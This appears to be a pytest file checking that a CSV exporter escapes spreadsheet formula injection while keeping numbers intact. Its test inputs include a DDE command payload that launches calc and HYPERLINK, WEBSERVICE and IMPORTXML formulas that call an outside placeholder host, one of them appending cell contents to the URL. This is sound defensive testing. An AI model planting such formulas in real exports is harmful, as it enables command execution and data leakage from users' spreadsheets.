"""CSV cells that a spreadsheet would run as formulas are written as text; numbers stay
numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from quidproquo.export import export
from quidproquo.export.csv import safe_cell, write_rows
from quidproquo.store import Store, now_iso


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://x.example/?"&A1,"open")', "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"),
        ("+7 (city hall)", "'+7 (city hall)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (-14, "-14"),
        ("-14", "-14"),
        ("+3.5", "+3.5"),
        (-0.25, "-0.25"),
        ("-1e3", "-1e3"),
        ("Belarus freed 9", "Belarus freed 9"),
        (["=evil", "fine"], "'=evil; fine"),
        (None, ""),
    ],
)  # fmt: skip
def test_safe_cell(value: object, written: str) -> None:
    assert safe_cell(value) == written


def test_written_csv_reads_back_as_text(tmp_path: Path) -> None:
    out = io.StringIO()
    rows = [{"id": "a", "offset": -3, "note": "=WEBSERVICE(\"http://x.example\")"}]
    write_rows(rows, ["id", "offset", "note"], out)
    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    assert row == {"id": "a", "offset": "-3", "note": "'=WEBSERVICE(\"http://x.example\")"}


def test_an_export_of_hostile_quotes_is_neutralised(tmp_path: Path) -> None:
    store = Store(str(tmp_path / "q.db"))
    store.execute(
        "INSERT INTO documents (id, content_hash, kind, url, retrieved, text)"
        " VALUES ('d1', 'h1', 'text', :url, :at, 'x')",
        {"url": "https://wire.example/1", "at": now_iso()},
    )
    store.execute(
        "INSERT INTO quotes (id, document_id, speaker, text, created_at)"
        " VALUES ('q1', 'd1', '@admin', '=IMPORTXML(\"http://x.example\",\"//a\")', :at)",
        {"at": now_iso()},
    )
    out = io.StringIO()
    export(store, "quotes", "csv", out)
    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["speaker"] == "'@admin" and row["text"].startswith("'=IMPORTXML")
